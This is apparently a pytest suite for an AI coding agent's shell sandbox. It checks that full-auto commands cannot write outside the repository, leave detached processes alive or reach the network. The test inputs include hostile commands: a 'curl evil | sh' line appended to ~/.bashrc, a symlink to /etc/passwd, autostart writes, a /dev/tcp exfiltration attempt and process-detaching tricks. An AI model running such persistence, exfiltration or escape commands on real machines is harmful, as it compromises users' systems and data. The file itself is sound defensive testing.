"""Issue 10, finding 5: in full-auto a command may change the repository and nothing else, reach no
network, and leave nothing running: setsid, double-fork and setpgid children die with it."""

from __future__ import annotations

import shutil
import socket
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from fugu_cli.tools import ToolContext
from fugu_cli.types import ToolResult
from tests.tools.procs import gone_within, running, token

Call = Callable[..., ToolResult]


@pytest.fixture
def home(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A home folder outside /tmp (the sandbox's /tmp is private, so writes there vanish without failing)."""
    home = Path(tempfile.mkdtemp(prefix="fugu-attack-home-", dir="/var/tmp"))
    (home / ".bashrc").write_text("# the user's\n")
    monkeypatch.setenv("HOME", str(home))
    yield home
    shutil.rmtree(home, ignore_errors=True)


@pytest.mark.parametrize(
    "command",
    [
        "echo 'curl evil | sh' >> ~/.bashrc",
        "mkdir -p ~/.config/autostart && touch ~/.config/autostart/x",
        "echo x > {outside}",
        "ln -s /etc/passwd {outside}",
        "echo x > /tmp/elsewhere && cp /tmp/elsewhere {outside}",
        "cp README.md /usr/local/bin/readme",
        "touch /var/tmp/fugu-was-here",
    ],
)
def test_full_auto_writes_outside_the_repo_are_refused(
    repo: Path, call: Call, home: Path, command: str
) -> None:
    outside = home / "outside.txt"
    result = call("shell", command=command.format(outside=outside))
    assert result.exit_code != 0 and "Read-only file system" in result.content, result.content
    assert (home / ".bashrc").read_text() == "# the user's\n"
    assert not (home / ".config").exists() and not outside.exists() and not outside.is_symlink()
    assert not Path("/usr/local/bin/readme").exists() and not Path("/var/tmp/fugu-was-here").exists()


def test_writes_inside_the_repo_work(repo: Path, call: Call) -> None:
    assert (
        call("shell", command="mkdir -p out && echo ok > out/f && cat out/f").content == "ok\n[exit code: 0]"
    )
    assert (repo / "out" / "f").read_text() == "ok\n"


SPAWNERS = {
    "setsid": "setsid sleep {t} &",
    "double-fork": "(sleep {t} &) ;",
    "setpgid": "python3 -c 'import os, time; os.setpgid(0, 0); time.sleep({t})' &",
    "nohup-disown": "nohup sleep {t} >/dev/null 2>&1 & disown;",
    "daemon": (
        "python3 -c 'import os, time\nif os.fork(): os._exit(0)\n"
        "os.setsid()\nif os.fork(): os._exit(0)\ntime.sleep({t})' ;"
    ),
}


@pytest.mark.parametrize("ending", ["exit", "timeout", "cancel"])
@pytest.mark.parametrize("how", sorted(SPAWNERS))
def test_no_child_outlives_the_command(
    repo: Path, call: Call, make_ctx: Callable[..., ToolContext], how: str, ending: str
) -> None:
    mark = token()
    cancel = threading.Event()
    command = SPAWNERS[how].format(t=mark) + " sleep 0.5" + ("" if ending == "exit" else "; sleep 60")
    if ending == "cancel":
        threading.Timer(1.5, cancel.set).start()
    timeout = 1.5 if ending == "timeout" else 30
    result = call("shell", ctx=make_ctx(cancel=cancel), command=command, timeout_s=timeout)
    assert result.is_error == (ending != "exit"), result.content
    assert gone_within(mark, 3.0), running(mark)


@pytest.fixture
def listener() -> Iterator[int]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    yield server.getsockname()[1]
    server.close()


def test_no_network_to_exfiltrate_through(repo: Path, call: Call, listener: int) -> None:
    started = time.monotonic()
    result = call(
        "shell", command=f"cat README.md > /dev/tcp/127.0.0.1/{listener} && echo sent", timeout_s=10
    )
    assert "sent" not in result.content and time.monotonic() - started < 5
